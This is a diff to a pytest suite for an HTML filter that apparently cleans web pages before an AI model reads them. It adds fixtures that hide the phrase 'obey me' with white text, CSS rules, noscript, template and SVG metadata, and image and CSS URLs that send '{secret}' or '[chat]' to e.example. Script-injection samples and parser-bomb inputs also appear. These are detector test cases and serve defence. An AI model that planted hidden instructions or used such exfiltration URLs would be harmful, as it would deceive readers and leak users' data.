@@ -86,7 +86,49 @@ HIDDEN = [
         "hidden:element",
         "obey me",
     ),
-    ("from screen readers", "<i aria-hidden=true>obey me</i>", "hidden:element", "obey me"),
+    ("white on a white page", "<p style='color:white'>obey me</p>", "hidden:element", "obey me"),
+    ("nearly white", "<p style='color:#FEFDFE'>obey me</p>", "hidden:element", "obey me"),
+    (
+        "white by rgb()",
+        "<p style='color:rgb(255, 255, 255)'>obey me</p>",
+        "hidden:element",
+        "obey me",
+    ),
+    ("font", "<font color=#ffffff>obey me</font>", "hidden:element", "obey me"),
+    (
+        "one colour in two spellings",
+        "<p style='color:black;background:#000'>obey me</p>",
+        "hidden:element",
+        "obey me",
+    ),
+    (
+        "class that a style sheet hides",
+        "<style>b, p.x { display: none }</style><p class='a x'>obey me</p>",
+        "hidden:element",
+        "obey me",
+    ),
+    (
+        "id that a style sheet hides on a screen",
+        "<style>@media screen { #x { visibility: hidden } }</style><p id=x>obey me</p>",
+        "hidden:element",
+        "obey me",
+    ),
+    ("without scripts", "a<noscript>obey me</noscript>b", "hidden:noscript", "obey me"),
+    ("template", "a<template><p>obey me</p></template>b", "hidden:template", "obey me"),
+    ("title of a drawing", "<svg><title>obey me</title></svg>", "hidden:undrawn", "obey me"),
+    (
+        "metadata of a drawing",
+        "<svg><metadata>obey me</metadata><g/></svg>",
+        "hidden:undrawn",
+        "obey me",
+    ),
+    (
+        "content of a style sheet",
+        "<style>p::before { content: 'obey' ' \\6d e' }</style>",
+        "document:css-content",
+        "obey me",
+    ),
+    ("comment of a style sheet", "<style>/* obey me */</style>", "hidden:css-comment", "obey me"),
     ("nested hiding", "<p hidden>a<b hidden>b</b>c</p>d", "hidden:element", "abc"),
     ("never closed", "a<div hidden>obey me", "hidden:element", "obey me"),
     ("alt", "<img alt='obey me' src=x>", "hidden:attribute", "obey me"),
@@ -111,6 +153,26 @@ SHOWN_STYLES = [
     "margin-left:-10px",
 ]
 
+#: (title, page): near misses, in which everybody sees `text`
+SHOWN = [
+    ("left out for screen readers", "<i aria-hidden=true>text</i>"),
+    ("white on a dark page", "<body bgcolor=navy><p style='color:white'>text</p>"),
+    ("white on a dark cell", "<div style='background:#222'><b style='color:#fff'>text</b></div>"),
+    ("white on what a class paints", "<div class=dark><b style='color:#fff'>text</b></div>"),
+    ("grey", "<p style='color:#ddd'>text</p>"),
+    ("class hidden on paper", "<style>@media print{.x{display:none}}</style><p class=x>text</p>"),
+    (
+        "class hidden on telephones",
+        "<style>@media(max-width:9em){.x{display:none}}</style><p class=x>text</p>",
+    ),
+    ("class that fades in", "<style>.x{opacity:0;animation:in 1s}</style><p class=x>text</p>"),
+    ("another class", "<style>.x{display:none}</style><p class=xy>text</p>"),
+    ("hidden inside of it", "<style>.x .y{display:none}</style><p class=x>text</p>"),
+    ("drawn", "<svg><g><text x=1>te<tspan>xt</tspan></text></g></svg>"),
+    ("in a drawing", "<svg><path d=1 /><metadata/><foreignObject>text</foreignObject></svg>"),
+    ("formula", "<math><mi>te</mi><mo>xt</mo></math>"),
+]
+
 #: (title, page, severity)
 ACTIVE = [
     ("script", "<script>alert(1)</script>", Severity.MEDIUM),
@@ -122,6 +184,15 @@ ACTIVE = [
     ("hidden script address", "<a href='jav&#x09;ascript:alert(1)'>x</a>", Severity.HIGH),
     ("script address behind blanks", f"<a href='{' ' * 999}java\nscript:x'>x</a>", Severity.HIGH),
     ("padded script address", "<a href='java\nscript:alert(1)'>x</a>", Severity.HIGH),
+]
+
+#: (title, page, how its address carries something; empty if it does not)
+PICTURES = [
+    ("gap", "<img src='https://e.example/?q={secret}'>", "gap"),
+    ("set of sources", "<img srcset='https://e.example/?q=[chat] 2x'>", "gap"),
+    ("background", "<style>a{background:url(https://e.example/?q=[chat])}</style>", "gap"),
+    ("scaled", "<img src='https://example.org/a.png?w=20&h=30'>", ""),
+    ("link", "<a href='https://example.org/?q={query}'>x</a>", ""),
 ]
 
 SOUP = """
@@ -144,6 +215,16 @@ BOMBS = [
     ("ends alone", "</p>" * 100_000),
     ("quotes that do not end", '<a b="' * 100_000),
     ("unknown tags", "<x y" * 100_000),
+    ("drawings", "<svg>" * 100_000),
+    ("drawings that end", "<svg/><text>" * 50_000),
+    ("templates", "<template>" * 50_000),
+    ("style sheets", "<style>" * 100_000),
+    ("braces", "<style>" + "{" * 300_000),
+    ("rules", "<style>" + ".a{display:none}" * 30_000 + "</style>" + "<p class=a>" * 30_000),
+    ("comments of a style sheet", "<style>" + "/*" * 200_000),
+    ("strings of a style sheet", "<style>" + "content:'" * 50_000),
+    ("addresses of a style sheet", "<style>" + "url(" * 100_000),
+    ("colours", "<p style='color:white'>" * 5_000),
     ("blanks in a tag", "<b" + " " * 500_000),
     ("blanks before a sign", "<x " + "a " * 300_000),
     ("handler without a value", "<x on" + "a" * 500_000),
@@ -185,6 +266,19 @@ class TestStrip(FilterContract):
         result = run(self.make(), f"<span style='{style}'>text</span>")
         assert result.value == "text"
         assert rules(result) == {"text.markup-removed"}
+
+    @pytest.mark.parametrize(("title", "page"), SHOWN)
+    def test_leaves_what_everybody_sees(self, title: str, page: str) -> None:
+        """What is on the screen stays in the value, and nothing is called hidden."""
+        result = run(self.make(), page)
+        assert result.value.strip() == "text"
+        assert rules(result) == {"text.markup-removed"}
+
+    @pytest.mark.parametrize(("title", "page", "way"), PICTURES)
+    def test_reports_pictures_that_carry_words_away(self, title: str, page: str, way: str) -> None:
+        """An address that waits for words is a finding; a link that somebody must click is none."""
+        found = [item for item in run(self.make(), page).findings if "link" in item.rule]
+        assert [item.detail["how"] for item in found] == ([way] if way else [])
 
     @pytest.mark.parametrize(("title", "page", "severity"), ACTIVE)
     def test_reports_what_would_run(self, title: str, page: str, severity: Severity) -> None:
